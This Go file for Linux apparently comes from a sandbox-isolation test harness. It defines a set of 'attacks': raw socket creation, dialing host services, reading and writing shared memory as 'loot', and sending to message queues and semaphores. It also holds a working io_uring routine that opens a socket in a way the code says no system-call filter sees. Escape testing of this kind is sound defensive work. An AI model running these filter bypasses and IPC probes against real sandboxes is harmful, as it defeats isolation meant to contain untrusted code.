//go:build linux

package main

import (
	"net"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	// socket FAMILY TYPE PROTOCOL: hands over a socket.
	attacks["socket"] = func(args []string) error {
		fd, err := unix.Socket(number(args[0]), number(args[1]), number(args[2]))
		if err != nil {
			return err
		}
		return sent(uintptr(fd), 0)
	}
	// dial NETWORK ADDRESS TEXT: sends TEXT to a service of the host.
	attacks["dial"] = func(args []string) error {
		c, err := net.Dial(args[0], args[1])
		if err != nil {
			return err
		}
		if _, err := c.Write([]byte(args[2])); err != nil {
			return err
		}
		return c.Close()
	}
	// shm-read KEY LENGTH, shm-write KEY TEXT: System V shared memory.
	attacks["shm-read"] = func(args []string) error {
		b, err := segment(args[0])
		if err == nil {
			tell("loot " + string(b[:number(args[1])]))
		}
		return err
	}
	attacks["shm-write"] = func(args []string) error {
		b, err := segment(args[0])
		if err == nil {
			copy(b, args[1])
		}
		return err
	}
	attacks["msg-send"] = func(args []string) error { // KEY TEXT
		id, _, e := unix.Syscall(unix.SYS_MSGGET, uintptr(number(args[0])), 0, 0)
		if e != 0 {
			return failed("msgget", e)
		}
		msg := &struct {
			kind int64
			text [64]byte
		}{kind: 1}
		n := copy(msg.text[:], args[1])
		_, _, e = unix.Syscall6(unix.SYS_MSGSND, id, uintptr(unsafe.Pointer(msg)), uintptr(n), unix.IPC_NOWAIT, 0, 0)
		return errno(e)
	}
	attacks["sem-set"] = func(args []string) error { // KEY VALUE
		id, _, e := unix.Syscall(unix.SYS_SEMGET, uintptr(number(args[0])), 1, 0)
		if e != 0 {
			return failed("semget", e)
		}
		const setval = 16
		_, _, e = unix.Syscall6(unix.SYS_SEMCTL, id, 0, setval, uintptr(number(args[1])), 0, 0)
		return errno(e)
	}
	attacks["mq-send"] = func(args []string) error { // NAME TEXT
		name, err := unix.BytePtrFromString(args[0])
		if err != nil {
			return err
		}
		q, _, e := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), unix.O_WRONLY|unix.O_NONBLOCK, 0, 0, 0, 0)
		if e != 0 {
			return failed("mq_open", e)
		}
		text := []byte(args[1])
		_, _, e = unix.Syscall6(unix.SYS_MQ_TIMEDSEND, q, uintptr(unsafe.Pointer(&text[0])), uintptr(len(text)), 0, 0, 0)
		return errno(e)
	}
	attacks["io_uring"] = ring
}

func segment(key string) ([]byte, error) {
	id, err := unix.SysvShmGet(number(key), 4096, 0)
	if err != nil {
		return nil, failed("shmget", err)
	}
	b, err := unix.SysvShmAttach(id, 0, 0)
	return b, failed("shmat", err)
}

// ring makes a socket that the system call filter refuses, by way of io_uring,
// which no filter sees. Layouts are those of <linux/io_uring.h>.
func ring([]string) error {
	var params struct {
		sqEntries, cqEntries, flags, cpu, idle, features, wq uint32
		resv                                                 [3]uint32
		sq, cq                                               struct {
			head, tail, mask, entries, flags, dropped, array, resv1 uint32
			addr                                                    uint64
		}
	}
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params)), 0)
	if e != 0 {
		return failed("io_uring_setup", e)
	}
	const offSQ, offCQ, offSQEs = 0, 0x8000000, 0x10000000
	rings, err := unix.Mmap(int(fd), offSQ, int(params.sq.array+4*params.sqEntries), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return failed("map", err)
	}
	done, err := unix.Mmap(int(fd), offCQ, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return failed("map", err)
	}
	entries, err := unix.Mmap(int(fd), offSQEs, 64*int(params.sqEntries), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return failed("map", err)
	}
	const opSocket = 45
	*(*struct {
		op, flags uint8
		prio      uint16
		domain    int32
		kind      uint64
		proto     uint64
	})(unsafe.Pointer(&entries[0])) = struct {
		op, flags uint8
		prio      uint16
		domain    int32
		kind      uint64
		proto     uint64
	}{op: opSocket, domain: unix.AF_VSOCK, kind: unix.SOCK_STREAM}
	*(*uint32)(unsafe.Pointer(&entries[24])) = 0 // len: the protocol
	word := func(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }
	*word(rings, params.sq.array) = 0
	*word(rings, params.sq.tail) = 1
	const getEvents = 1
	if _, _, e = unix.Syscall6(unix.SYS_IO_URING_ENTER, fd, 1, 1, getEvents, 0, 0); e != 0 {
		return failed("io_uring_enter", e)
	}
	// A completion is user data (8 bytes), the result and flags (4 each).
	cqes := params.cq.dropped // the sixth word of the completion ring offsets is cqes
	res := int32(*word(done, cqes+8))
	if res < 0 {
		return failed("socket by io_uring", unix.Errno(-res))
	}
	return sent(uintptr(res), 0)
}
